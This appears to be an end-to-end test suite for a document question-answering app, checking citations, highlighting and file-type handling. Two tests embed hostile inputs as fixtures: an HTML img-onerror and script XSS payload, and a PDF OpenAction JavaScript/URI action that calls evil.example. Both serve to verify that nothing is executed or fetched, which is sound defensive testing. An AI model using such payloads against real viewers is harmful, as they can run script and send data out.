import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { CHROMIUM, drop, expectAccessible } from '../support/chromium';
import { layouts } from '../support/documents/layouts';
import { docx, pdf, xlsx } from '../support/documents/make';
import { placedPdf } from '../support/documents/placed-pdf';
import { needs } from '../support/needs';
import { shellsForFile } from '../support/shells';
import { tempFolder } from '../support/temp-folder';

const SENTENCE = 'Storks nest on the lighthouse in spring.';
const HANDBOOK = pdf([
  'The lighthouse handbook\n\nFor keepers and their guests.',
  'Birds\n\nGulls sleep on the northern rocks all year round.\nStorks nest on the\nlighthouse in spring.\nVisitors keep a distance of forty metres.',
  'Boats\n\nThe ferry leaves at noon.',
]);

async function attach(page: Page, name: string, content: string | Buffer): Promise<void> {
  await drop(page, name, content);
  await page
    .getByRole('article', { name: `Document ${name}` })
    .getByText('Ready')
    .waitFor();
}

async function ask(page: Page, question: string): Promise<void> {
  await page.getByLabel('Your question').fill(question);
  await page.keyboard.press('Enter');
  await page.getByText('Completed in').waitFor();
}

const chip = (page: Page) => page.getByRole('article', { name: 'Answer' }).getByRole('button', { name: /^Source 1/ });
const marked = async (page: Page) => (await page.locator('aside mark').allTextContents()).join(' ');

/** At how many widths of the answer the number stands on another line than the last letter before it. */
const strayed = (page: Page): Promise<number> =>
  page.evaluate(`(() => {
    const answer = document.querySelector('[aria-label=Answer]');
    const chip = answer.querySelector('[aria-label^="Source 1"]');
    const texts = document.createTreeWalker(answer, NodeFilter.SHOW_TEXT);
    let last = null;
    while (texts.nextNode() && texts.currentNode.compareDocumentPosition(chip) & 4) last = texts.currentNode;
    const letter = document.createRange();
    letter.setStart(last, last.length - 1);
    letter.setEnd(last, last.length);
    const widths = Array.from({ length: 120 }, (_, n) => 150 + 3 * n);
    const count = widths.filter((width) => {
      answer.style.width = width + 'px';
      return chip.getBoundingClientRect().top > letter.getBoundingClientRect().bottom - 2;
    }).length;
    answer.style.width = '';
    return count;
  })()`);

/** Whether it can be seen without scrolling: all that scrolls around it shows it. */
const inView = (page: Page, selector: string): Promise<boolean> =>
  page.evaluate(`(() => {
    const element = document.querySelector(${JSON.stringify(selector)});
    const box = element?.getBoundingClientRect();
    const frame = element?.closest('section')?.getBoundingClientRect();
    return Boolean(box && frame && box.top >= frame.top && box.bottom <= frame.bottom);
  })()`);

describe.each(shellsForFile())('documents $name', needs(CHROMIUM), ({ start }) => {
  it.each(['light', 'dark'] as const)('are cited, and shown at the words that were quoted, in %s', async (scheme) => {
    const folder = tempFolder();
    const app = await start(folder);
    const page = await app.open({ scheme });
    await attach(page, 'handbook.pdf', HANDBOOK);
    await page.getByText('PDF · 3 pages').waitFor();
    await expectAccessible(page);
    await ask(page, 'Where do storks nest?');

    expect(await page.getByText('†source').count()).toBe(0);
    expect(await chip(page).getAttribute('aria-label')).toBe('Source 1: handbook.pdf, page 2');
    expect(await strayed(page)).toBe(0);
    await chip(page).focus();
    await page.keyboard.press('Enter');
    await page.getByRole('tab', { name: 'Sources', selected: true }).waitFor();
    await page.locator('[data-page="2"] mark').first().waitFor();
    expect((await marked(page)).replaceAll(/\s+/g, ' ')).toBe(SENTENCE);
    await expectAccessible(page);

    await page.getByRole('button', { name: 'Next page' }).click();
    await page.locator('[data-page="3"]').getByText('The ferry leaves at noon.').waitFor();
    expect(await marked(page)).toBe('');
    await page.reload();
    await chip(page).click();
    await page.locator('[data-page="2"] mark').first().waitFor();

    await app.stop();
    const off = await start(folder, ['--no-engine']);
    const later = await off.open({ scheme });
    await later
      .getByRole('button', { name: /^Where do storks nest/ })
      .first()
      .click();
    await chip(later).click();
    await later.locator('[data-page="2"] mark').first().waitFor();
    expect((await marked(later)).replaceAll(/\s+/g, ' ')).toBe(SENTENCE);
  });

  it.each([
    ['in two columns', 'two columns, drawn row by row', 'What did the board agree to keep burning?'],
    ['in three columns', 'three columns, drawn row by row', 'Who count all birds twice a year?'],
    ['on a page that is turned', 'a page that is turned to be read', 'What did it ask the town for?'],
  ])('are marked at the very words that were quoted, %s', async (_, name, question) => {
    const layout = layouts.find((one) => one.name === name);
    const app = await start(tempFolder());
    const page = await app.open();
    await attach(page, 'report.pdf', placedPdf(layout ? [layout.page] : []));
    await ask(page, question);
    await page
      .getByRole('article', { name: 'Answer' })
      .getByText(layout?.quote ?? '')
      .waitFor();
    await chip(page).click();
    await page.locator('[data-page="1"] mark').first().waitFor();
    expect(await marked(page)).toBe(layout?.quote);
  });

  it('say in the steps what was searched, what was found and why, and lead there', async () => {
    const app = await start(tempFolder());
    const page = await app.open();
    await attach(page, 'handbook.pdf', HANDBOOK);
    await ask(page, 'Where do storks nest?');
    await page.getByText('Searched the documents').waitFor();
    await page
      .getByRole('listitem')
      .getByText(/Has .*stork/)
      .first()
      .waitFor();
    await expectAccessible(page);
    await page.getByRole('button', { name: /^handbook.pdf page 2/ }).click();
    await page.locator('[data-page="2"] mark').first().waitFor();
    await page.getByRole('button', { name: 'All sources' }).click();
    await page.getByRole('list', { name: 'Documents of this thread' }).getByText('handbook.pdf').waitFor();
    await expectAccessible(page);
  });

  it('of other kinds are shown as what was read from them, the words pointed out', async () => {
    const app = await start(tempFolder());
    const page = await app.open();
    const evil = '<img src=http://evil.example/x onerror=alert(1)> Pelicans fish at dawn.';
    const filler = Array.from(
      { length: 3_000 },
      (_, n) => `Line ${n} is about nothing${', and goes on about it'.repeat(n % 5)}.`,
    ).join('\n');
    const cases: [string, string | Buffer, string, string][] = [
      [
        'birds.xlsx',
        xlsx({
          Land: [['Owl', 2]],
          Sea: [
            ['Bird', 'Count'],
            ['Puffin colony', 1250],
          ],
        }),
        'puffin colony',
        'Puffin colony',
      ],
      [
        'letter.docx',
        docx(['Dear Ada,', 'the herons have come back to the pond.']),
        'herons pond',
        'herons have come back',
      ],
      ['log.txt', `${filler}\nCormorants dive deepest.\n${filler}`, 'cormorants dive', 'Cormorants dive deepest.'],
      [
        'page.html',
        `<p>${evil.replaceAll('<', '&lt;')}</p><script>alert(2)</script>`,
        'pelicans fish dawn',
        'Pelicans fish at dawn.',
      ],
    ];
    for (const [name, content, question, words] of cases) {
      await page.keyboard.press('Alt+n');
      await page.getByText('Or try it on a sample').waitFor();
      if (name.endsWith('.xlsx')) {
        await drop(page, name, content);
        await page.getByRole('button', { name: 'Search its text too' }).click();
        await page
          .getByRole('article', { name: `Document ${name}` })
          .getByText('Ready')
          .waitFor();
      } else await attach(page, name, content);
      await ask(page, question);
      await chip(page).click();
      const panel = page.getByRole('complementary', { name: 'Inspector' });
      await panel.locator('mark, td[aria-current]').filter({ hasText: words }).first().waitFor();
      expect(await panel.locator('[data-index]').count(), name).toBeLessThan(120);
      await expect.poll(() => inView(page, '[data-pointed]'), { message: name }).toBe(true);
      await expectAccessible(page);
    }
    expect(await page.locator('img[src*="evil"], [onerror]').count()).toBe(0);
  });

  it('stay open beside the answer while they are enlarged, and afterwards', async () => {
    const app = await start(tempFolder());
    const page = await app.open();
    await attach(page, 'handbook.pdf', HANDBOOK);
    await ask(page, 'Where do storks nest?');
    await chip(page).click();
    await page.locator('aside [data-page="2"] mark').first().waitFor();
    await page.getByRole('button', { name: 'Enlarge' }).click();
    const large = page.getByRole('dialog', { name: 'handbook.pdf' });
    await large.locator('[data-page="2"] mark').first().waitFor();
    await large.getByRole('button', { name: 'Close' }).click();
    await large.waitFor({ state: 'hidden' });
    await page.getByRole('button', { name: 'Next page' }).click();
    const line = page.locator('aside [data-page="3"]').getByText('The ferry leaves at noon.');
    await line.waitFor();
    expect(await line.count()).toBe(1);
  });

  it('run nothing and fetch nothing, whatever a PDF asks for', async () => {
    const app = await start(tempFolder());
    const page = await app.open();
    let alerted = false;
    page.on('dialog', (dialog) => {
      alerted = true;
      void dialog.dismiss();
    });
    const actions =
      "/OpenAction<</S/JavaScript/JS(app.alert\\('open'\\); this.submitForm\\('http://evil.example/x'\\))>>/AA<</WC<</S/URI/URI(http://evil.example/y)>>>>";
    const hostile = pdf(['Egrets wade in the shallows.'], { catalog: actions });
    await attach(page, 'egrets.pdf', hostile);
    await ask(page, 'Where do egrets wade?');
    await chip(page).click();
    await page.locator('[data-page="1"] mark').first().waitFor();
    expect(alerted).toBe(false);
    expect(await page.locator('aside a, aside iframe, aside form, aside script').count()).toBe(0);
  });

  it('that are broken say so, in the tray and where they are opened', async () => {
    const app = await start(tempFolder());
    const page = await app.open();
    await drop(page, 'broken.pdf', '%PDF-1.4\n1 0 obj garbage\n%%EOF');
    await page.getByText(/Could not be read: The PDF is damaged/).waitFor();
    await drop(page, 'photo.txt', Buffer.from([1, 2, 0, 3, 0]));
    await page.getByText(/Could not be read: The file is no text/).waitFor();
    await expectAccessible(page);
  });
});
